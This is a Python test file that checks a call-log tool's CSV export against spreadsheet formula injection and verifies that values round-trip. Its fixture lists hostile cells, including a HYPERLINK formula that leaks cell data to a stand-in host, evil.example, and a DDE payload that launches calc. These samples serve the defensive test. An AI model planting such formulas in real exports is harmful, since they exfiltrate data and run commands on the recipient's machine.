"""The CSV export opens in a spreadsheet as text, never as formulas, and loses nothing.

OWASP's rule ("CSV Injection"): a cell that starts with `=`, `+`, `-`, `@`, a tab or a
return is a formula to Excel, LibreOffice and Google Sheets (and `=cmd|' /C calc'!A0`
runs a program); such a cell gets a leading `'`. A number to dial of digits only, or one
written `+86 138…`, stays readable text. Reading back is one rule: drop one leading `'`.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from .helpers import run_cli

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

#: What people and collectors write, and what an attacker would: one entry each.
HOSTILE = {
    "said": [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "＝1+1",
        "'=quoted already",
        "还钱，不然=后果自负",
        'plain words, with a comma and "quotes"',
        "line one\nline two",
    ],
    "number": ["+86 138 0013 8000", "13800138000", "010-12345678", "95188", "-1", "@evil"],
    "org": ["=1+1", "某某资产管理公司", "@org"],
}


def entries() -> list[dict[str, object]]:
    found: list[dict[str, object]] = []
    for field, values in HOSTILE.items():
        for n, value in enumerate(values):
            found.append(
                {
                    "at": f"2026-01-{n + 1:02d} 10:{len(found):02d}",
                    "zone": "Asia/Shanghai",
                    "channel": "call",
                    field: value,
                }
            )
    found.append(
        {
            "at": "2026-02-01 10:00",
            "zone": "Asia/Shanghai",
            "channel": "visit",
            "third_parties": [{"who": "=boss", "told": "-debt"}],
            "witnesses": ["@a", "b"],
        }
    )
    return found


def exported(tmp_path: Path) -> tuple[list[dict[str, str]], list[dict[str, object]]]:
    """The CSV export read back by Python's csv module, and the JSON export's entries."""
    env = {"XDG_DATA_HOME": str(tmp_path / "data"), "TZ": "Asia/Shanghai"}
    given = tmp_path / "hostile.json"
    given.write_text(json.dumps(entries()), encoding="utf-8")
    added = run_cli("log", "add", "--from", str(given), env=env)
    assert added.returncode == 0, added.stderr
    out = tmp_path / "log.csv"
    done = run_cli("log", "export", "--output", str(out), env=env)
    assert done.returncode == 0, done.stderr
    text = out.read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    as_json = run_cli("log", "export", "--format", "json", env=env)
    return rows, json.loads(as_json.stdout)["entries"]


def read_back(cell: str) -> str:
    """The one rule a reader needs: a leading `'` was added; drop it."""
    return cell[1:] if cell.startswith("'") else cell


def test_no_cell_starts_as_a_formula(tmp_path: Path) -> None:
    rows, _ = exported(tmp_path)
    cells = [cell for row in rows for cell in row.values()]
    assert cells
    assert not [c for c in cells if c.startswith(DANGEROUS)]


def test_every_value_that_would_be_a_formula_is_neutralised_with_a_leading_quote(
    tmp_path: Path,
) -> None:
    rows, _ = exported(tmp_path)
    for field in ("said", "org"):
        for value in (v for v in HOSTILE[field] if v.startswith((*DANGEROUS, "'"))):
            (row,) = [r for r in rows if r[field] == "'" + value]
            assert row[field] == "'" + value


def test_numbers_to_dial_stay_readable_text(tmp_path: Path) -> None:
    rows, _ = exported(tmp_path)
    numbers = {row["number"] for row in rows if row["number"]}
    assert "'+86 138 0013 8000" in numbers  # not a formula, not 8.61E+12
    assert "'13800138000" in numbers  # not 1.38E+10
    assert "'95188" in numbers
    assert "010-12345678" in numbers  # already text to a spreadsheet: as written


def test_a_round_trip_keeps_every_value(tmp_path: Path) -> None:
    rows, logged = exported(tmp_path)
    assert len(rows) == len(logged)
    for row, entry in zip(rows, logged, strict=True):
        for field in ("said", "number", "org", "zone", "channel", "at"):
            assert read_back(row[field]) == str(entry.get(field, "")), field
        assert read_back(row["witnesses"]) == "; ".join(entry.get("witnesses", []))  # type: ignore[arg-type]
